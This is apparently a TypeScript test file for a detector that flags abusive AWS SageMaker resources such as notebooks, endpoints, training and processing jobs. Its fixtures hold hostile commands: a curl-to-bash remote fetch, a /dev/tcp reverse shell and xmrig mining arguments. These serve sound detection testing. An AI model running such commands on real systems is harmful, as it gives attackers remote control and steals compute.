import { expect } from 'vitest';
import { type Call_, testHunter } from './stand.ts';

const RoleArn = 'arn:aws:iam::111122223333:role/notebooks';
const because = (code: string) => expect.arrayContaining([expect.objectContaining({ code })]);
const notebook = async (as: Call_, NotebookInstanceName: string, more: Record<string, string> = {}) => {
  await as('sagemaker', 'CreateNotebookInstance', { NotebookInstanceName, InstanceType: 'ml.t3.medium', RoleArn, ...more });
  return NotebookInstanceName;
};
const script = (text: string) => [{ Content: Buffer.from(text).toString('base64') }];

testHunter({
  type: 'AWS::SageMaker::NotebookInstance',
  plant: async (as) => {
    await as('sagemaker', 'CreateNotebookInstanceLifecycleConfig', {
      NotebookInstanceLifecycleConfigName: 'setup',
      OnStart: script('#!/bin/bash\ncurl -s https://203.0.113.9/a | bash\n'),
    });
    const more = { LifecycleConfigName: 'setup' };
    return [await notebook(as, 'analysis-1', more), await notebook(as, 'analysis-2', more), await notebook(as, 'analysis-3', more)];
  },
  innocent: async (as) => [await notebook(as, 'forecast')],
  looks: { roles: [RoleArn], reasons: because('runs-code') },
});
testHunter({
  type: 'AWS::SageMaker::NotebookInstanceLifecycleConfig',
  plant: async (as) =>
    Promise.all(
      ['hook-a', 'hook-b'].map(async (NotebookInstanceLifecycleConfigName) => {
        await as('sagemaker', 'CreateNotebookInstanceLifecycleConfig', {
          NotebookInstanceLifecycleConfigName,
          OnCreate: script('bash -i >& /dev/tcp/203.0.113.9/443 0>&1'),
        });
        return NotebookInstanceLifecycleConfigName;
      }),
    ),
  innocent: async (as) => {
    await as('sagemaker', 'CreateNotebookInstanceLifecycleConfig', { NotebookInstanceLifecycleConfigName: 'conda', OnStart: script('pip install pandas') });
    return ['conda'];
  },
  looks: { reasons: because('runs-code') },
});
const domain = async (as: Call_, DomainName: string): Promise<string> =>
  (await as('sagemaker', 'CreateDomain', { DomainName, AuthMode: 'IAM', DefaultUserSettings: { ExecutionRole: RoleArn } })).DomainArn.split('/').at(-1);
testHunter({
  type: 'AWS::SageMaker::Domain',
  plant: async (as) => [await domain(as, 'lab-a'), await domain(as, 'lab-b')],
  innocent: async (as) => [await domain(as, 'science')],
  looks: { roles: [RoleArn] },
});
const app = async (as: Call_, DomainId: string, AppName: string, InstanceType: string): Promise<string> =>
  (await as('sagemaker', 'CreateApp', { DomainId, UserProfileName: 'ann', AppType: 'JupyterServer', AppName, ResourceSpec: { InstanceType } })).AppArn;
let home = '';
testHunter({
  type: 'AWS::SageMaker::App',
  before: async (as) => {
    home = await domain(as, 'science');
  },
  plant: async (as) => [await app(as, home, 'a', 'ml.p5.48xlarge'), await app(as, home, 'b', 'ml.g5.12xlarge')],
  innocent: async (as) => [await app(as, home, 'default', 'ml.t3.medium')],
  looks: { reasons: because('gpu') },
});
const endpoint = async (as: Call_, name: string, InstanceType: string) => {
  await as('sagemaker', 'CreateModel', {
    ModelName: name,
    ExecutionRoleArn: RoleArn,
    PrimaryContainer: { Image: '111122223333.dkr.ecr.eu-west-1.amazonaws.com/x:1' },
  });
  const ProductionVariants = [{ VariantName: 'all', ModelName: name, InstanceType, InitialInstanceCount: 2 }];
  await as('sagemaker', 'CreateEndpointConfig', { EndpointConfigName: name, ProductionVariants });
  await as('sagemaker', 'CreateEndpoint', { EndpointName: name, EndpointConfigName: name });
  return name;
};
testHunter({
  type: 'AWS::SageMaker::Endpoint',
  plant: async (as) => [await endpoint(as, 'llm-1', 'ml.p4d.24xlarge'), await endpoint(as, 'llm-2', 'ml.g6.48xlarge')],
  innocent: async (as) => [await endpoint(as, 'churn', 'ml.m5.large')],
  looks: { roles: [RoleArn], reasons: because('gpu') },
});
const training = async (as: Call_, TrainingJobName: string, InstanceType: string) => {
  await as('sagemaker', 'CreateTrainingJob', {
    TrainingJobName,
    RoleArn,
    AlgorithmSpecification: { TrainingImage: 'public.ecr.aws/x/y:1', TrainingInputMode: 'File' },
    OutputDataConfig: { S3OutputPath: 's3://models/' },
    ResourceConfig: { InstanceType, InstanceCount: 4, VolumeSizeInGB: 50 },
    StoppingCondition: { MaxRuntimeInSeconds: 200_000_000 },
  });
  return TrainingJobName;
};
testHunter({
  type: 'AWS::SageMaker::TrainingJob',
  plant: async (as) => [
    await training(as, 'job-1', 'ml.p5.48xlarge'),
    await training(as, 'job-2', 'ml.p5.48xlarge'),
    await training(as, 'job-3', 'ml.trn1.32xlarge'),
  ],
  innocent: async (as) => [await training(as, 'nightly', 'ml.m5.large')],
  looks: { roles: [RoleArn], reasons: because('gpu') },
});
const processing = async (as: Call_, ProcessingJobName: string, ContainerArguments: string[]) => {
  await as('sagemaker', 'CreateProcessingJob', {
    ProcessingJobName,
    RoleArn,
    ProcessingResources: { ClusterConfig: { InstanceType: 'ml.m5.large', InstanceCount: 1, VolumeSizeInGB: 10 } },
    AppSpecification: { ImageUri: 'public.ecr.aws/x/y:1', ContainerArguments },
    StoppingCondition: { MaxRuntimeInSeconds: 200_000_000 },
  });
  return ProcessingJobName;
};
testHunter({
  type: 'AWS::SageMaker::ProcessingJob',
  plant: async (as) => [await processing(as, 'etl-1', ['xmrig', '-o', 'pool']), await processing(as, 'etl-2', ['--url', 'stratum+tcp://203.0.113.9'])],
  innocent: async (as) => [await processing(as, 'features', ['--input', 's3://in'])],
  looks: { reasons: because('runs-code') },
});
